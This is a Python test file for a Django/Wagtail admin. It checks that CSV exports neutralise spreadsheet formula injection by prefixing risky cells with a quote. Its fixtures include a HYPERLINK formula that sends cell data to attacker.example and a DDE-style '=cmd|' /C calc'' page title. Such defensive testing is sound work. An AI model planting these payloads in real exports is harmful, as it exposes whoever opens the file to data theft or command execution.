"""Every CSV the admin offers is safe to open in a spreadsheet: snippet exports, the import
history and Wagtail's own reports, through one guard (portal.security). Made-up names only."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.models import Page

from portal.security import safe_csv
from stats.exchange import export_dataset
from stats.models import ImportRecord, Observation
from tests.factories import OrganizationFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Refund")'


@pytest.fixture
def admin(client, django_user_model):
    user = django_user_model.objects.create_superuser("boss", "boss@example.org", "pw-123456")
    client.force_login(user)
    return client, user


def export(client, url):
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body, list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def cells(rows):
    return [cell for row in rows for cell in row]


def assert_safe(rows):
    risky = [c for c in cells(rows) if c[:1] in ("=", "+", "@", "\t", "\r")]
    risky += [c for c in cells(rows) if c[:1] == "-" and not c[1:].replace(".", "").isdigit()]
    assert not risky, risky


def test_an_organization_named_as_a_formula_is_exported_as_text(admin):
    client, _user = admin
    OrganizationFactory(name=HYPERLINK, kind="coalition", description="line one,\nline two")
    _body, rows = export(client, reverse("wagtailsnippets_resources_organization:list"))
    assert "'" + HYPERLINK in cells(rows)
    assert "line one,\nline two" in cells(rows)  # quoting and new lines survive
    assert_safe(rows)


def test_import_history_file_names_are_exported_as_text(admin):
    client, user = admin
    for name in ("=1+2*cmd.csv", "+cmd.csv", "@SUM(A1).xlsx", "-2+3.csv"):
        ImportRecord.objects.create(file_name=name, file_format="csv", content=b"", user=user)
    _body, rows = export(client, reverse("wagtailsnippets_stats_importrecord:list"))
    found = cells(rows)
    for name in ("'=1+2*cmd.csv", "'+cmd.csv", "'@SUM(A1).xlsx", "'-2+3.csv"):
        assert name in found
    assert_safe(rows)


@pytest.fixture
def formula_page(admin):
    _client, user = admin
    home = Page.objects.get(depth=1)
    page = home.add_child(instance=Page(title="=cmd|' /C calc'!A0", slug="formula"))
    page.save_revision(user=user).publish(user=user)
    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=user, locked_at=timezone.now())
    return page


@pytest.mark.parametrize("report", ["locked_pages", "aging_pages", "site_history"])
def test_wagtail_reports_list_page_titles_as_text(admin, formula_page, report):
    client, _user = admin
    _body, rows = export(client, reverse(f"wagtailadmin_reports:{report}"))
    assert "'" + formula_page.title in cells(rows), rows
    assert_safe(rows)


def test_the_observation_export_is_unchanged_by_the_guard(admin, stats_data):
    client, _user = admin
    from datetime import date

    from stats.models import Jurisdiction

    Observation.objects.create(
        metric=stats_data["metrics"]["cases"],
        jurisdiction=Jurisdiction.objects.get(code="MO"),
        period_start=date(2019, 1, 1),
        period_end=date(2019, 12, 31),
        value=233,
        footnote="=SUM(A1) is not a formula here",
        source=stats_data["new"],
    )
    body, rows = export(client, reverse("wagtailsnippets_stats_observation:list"))
    assert body == export_dataset(Observation.objects.all(), "csv")
    assert "'=SUM(A1) is not a formula here" in cells(rows)


def test_the_guard_streams_across_any_chunk_boundaries():
    source = '\ufeffname,n\r\n=1+2,-3\r\n"a\r\nb",2.5\r\n'.encode()
    whole = b"".join(safe_csv([source]))
    assert whole == '\ufeffname,n\r\n\'=1+2,-3\r\n"a\r\nb",2.5\r\n'.encode()
    for size in (1, 2, 5):
        assert b"".join(safe_csv([source[i : i + size] for i in range(0, len(source), size)])) == (
            whole
        )
